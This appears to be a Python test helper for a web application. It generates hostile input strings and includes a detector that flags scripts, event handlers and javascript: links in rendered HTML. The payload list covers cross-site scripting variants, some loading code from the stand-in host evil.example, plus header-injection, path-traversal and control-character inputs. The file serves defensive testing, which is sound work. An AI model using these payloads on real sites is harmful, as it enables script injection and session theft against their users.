"""Generate hostile texts, and find what became of them in pages: scripts, handlers, links that run something."""

from collections.abc import Iterator
from random import Random

from justhtml import JustHTML

CALLS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))", "import('//evil.example')"]
SCRIPTS = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\x0c>{}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    '" autofocus onfocus={} x="',
    "' onmouseover='{}",
    "<a href='javascript:{}'>x</a>",
    "<a href='jAvA\tscript:{}'>x</a>",
    "[x](javascript:{})",
    "[x](  JAVASCRIPT:{})",
    "[x](data:text/html,<script>{}</script>)",
    "<javascript:{}>",
    "![x](vbscript:{})",
    "[x]: javascript:{}\n\n[x]",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data='javascript:{}'>",
    "<math><mi xlink:href='javascript:{}'>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</script><script>{}</script>",
    "<style>@import'//evil.example'</style>",
    "<meta http-equiv=refresh content='0;{}'>",
    "<form action='javascript:{}'><button>x",
    "<base href='javascript:{}//'>",
    "{{{{ {} }}}}",
    "{{% include '{}' %}}",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "&lt;script&gt;{}",
    "[[x|<img src=x onerror={}>]]",
    "[[2026-06-25/d-0]]<script>{}</script>",
    "`<script>{}</script>`",
    "    <script>{}</script>",
]
MARKS = [
    *"\u202e\u202d\u2066\u2067\u2069\u200f\u061c\u200b\ufeff\u0000\u0001\u0008\u000b\u001b\u007f\u0085\u2028\u2029"
]
MARKS += ["\ufffe", "\uffff", "\U000e0041", "\U0010ffff", "é", "e\u0301" * 40, "😀", "\r", "\n", "\t"]
NUMBERS = ["-1", "0", "²", "٣", "1e309", "NaN", "9" * 30, "9" * 5_000, "0x1f", "1_0", "-0", "00000000001", "1.5", "∞"]
DATES = [
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "2026-06-25T25:61",
    "1900-01-01T00:00:00-23:59",
    "+292277026596-12-04",
]
ENCODED = ["%00", "%ff%fe", "%c0%af", "%ed%a0%80", "%u0041", "%", "%zz", "..%2f..%2f", "%0d%0aSet-Cookie:x", "\\", "//"]
LONG = [
    "A" * 141,
    "A" * 100_000,
    "<" * 3_000,
    "[" * 3_000,
    "*" * 3_000,
    "> " * 1_000 + "x",
    "[[" * 1_000,
    "-" * 3_000,
]


def payload(random: Random) -> str:
    """Return one hostile text."""
    kind = random.random()
    if kind < 0.55:
        text = random.choice(SCRIPTS).format(random.choice(CALLS))
    elif kind < 0.7:
        text = "".join(random.choices([*MARKS, "word ", "<b>", "&"], k=random.randint(1, 12)))
    else:
        text = random.choice(random.choice([NUMBERS, DATES, ENCODED, LONG]))
    if random.random() < 0.3:
        at = random.randint(0, len(text))
        text = text[:at] + random.choice(MARKS) + text[at:]
    return f"word {text} word" if random.random() < 0.5 else text


RUNS = ("javascript:", "vbscript:", "data:")
LINKS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background"}
NEVER = {"iframe", "object", "embed", "base", "applet", "frame", "style", "math"}


# Of the frame for other sites, whose links open outside of it.
HARMLESS_BASE = {"target": "_blank"}

# Our own files, and the data in pages that a browser does not run.
OWN = ("/static/", "/desk/jsi18n/")
DATA = {"application/ld+json", "application/json"}


def find_scripts(html: str) -> Iterator[str]:
    """Yield what would run in a page, or load from elsewhere: scripts but our own files, handlers, links that run."""
    for node in _walk(JustHTML(html, sanitize=False).root):
        attributes = {name.lower(): value or "" for name, value in (node.attrs or {}).items()}
        is_own = attributes.get("src", "").startswith(OWN) and not node.to_text().strip()
        if node.name == "script" and attributes.get("type") not in DATA and not is_own:
            yield f"<script {attributes}>"
        is_harmless = node.name == "base" and attributes == HARMLESS_BASE
        if (node.name in NEVER and not is_harmless) or (
            node.name == "meta" and attributes.get("http-equiv", "").lower() == "refresh"
        ):
            yield f"<{node.name}>"
        for name, value in attributes.items():
            plain = "".join(value.split()).lower().lstrip("".join(map(chr, range(33))))
            if name.startswith("on") or name == "style" or (name in LINKS and plain.startswith(RUNS)):
                yield f"<{node.name} {name}={value[:60]!r}>"


def _walk(node: object) -> Iterator:
    waiting = [node]
    while waiting:
        each = waiting.pop()
        if getattr(each, "name", "").startswith(("#", "!")):
            pass
        elif getattr(each, "name", None):
            yield each
        content = getattr(each, "template_content", None)
        waiting += [*(getattr(each, "children", None) or []), *([content] if content else [])]
